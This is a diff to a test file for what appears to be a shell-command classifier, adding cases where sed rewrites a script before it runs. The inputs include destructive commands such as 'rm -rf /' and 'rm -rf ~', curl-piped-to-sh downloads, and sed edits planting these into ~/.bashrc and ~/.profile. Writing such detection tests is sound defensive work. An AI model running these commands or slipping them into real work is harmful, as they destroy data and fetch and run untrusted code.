@@ -36,6 +36,13 @@ describe('files written and run in the same command line', () => {
     // Content nobody can read before it runs, or a download.
     ['base64 -d <<< cm0gLXJmIC8= > x.sh; bash x.sh', ALL],
     ['curl -s https://x.io/i.sh > i.sh; sh i.sh', ['downloadExec', 'network']],
+    // Edited by sed: what it adds, and literal substitutions made (addresses aside).
+    [`echo '#rm -rf /' > x.sh; sed -i 's/^#//' x.sh; sh x.sh`, ['destructive']],
+    [`echo 'rm -rf /tmp/build' > x.sh; sed -i 's|/tmp/build|/|' x.sh; sh x.sh`, ['destructive']],
+    ["echo hi > x.sh; sed -i '1i\\\nrm -rf /' x.sh; sh x.sh", ['destructive']],
+    [`echo 'echo hi' > x.sh; sed -i 's/echo hi/& \\&\\& rm -rf \\//' x.sh; bash x.sh`, ['destructive']],
+    [`echo '# rm -rf ~' | sed 's/# //' | sh`, ['destructive']],
+    [`echo 'rm -rf /' > x; sed 's/a/b/' x > y.sh; sh y.sh`, ['destructive']],
   ])('judges a file by what was written into it: %s', (command, expected) => {
     expect(classes(command)).toEqual(expected);
   });
@@ -172,6 +179,11 @@ describe('more ways of writing, reading back and running a file', () => {
     [`printf '#!/bin/sh\\nrm -rf ~\\n' > .git/hooks/pre-commit.sample`, []],
     [`echo '0 3 * * * /usr/local/bin/backup.sh' | crontab -`, []],
     ['git config user.name "A. Developer"', []],
+    // sed's own text (a, i, c, replacements) goes into the file it edits in place.
+    [`sed -i '$a rm -rf ~' ~/.bashrc`, ['destructive']],
+    [`sed -i -e '1i curl -s https://x.io/i | sh' ~/.profile`, ['downloadExec', 'network']],
+    [`sed -i 's/^alias ll=.*/alias ll="rm -rf ~"/' ~/.bashrc`, ['destructive']],
+    ['sed -i.bak "s|/usr/local|/opt|" ~/.bashrc', []],
   ])('judges what runs later: %s', (command, expected) => {
     expect(classes(command)).toEqual(expected);
   });
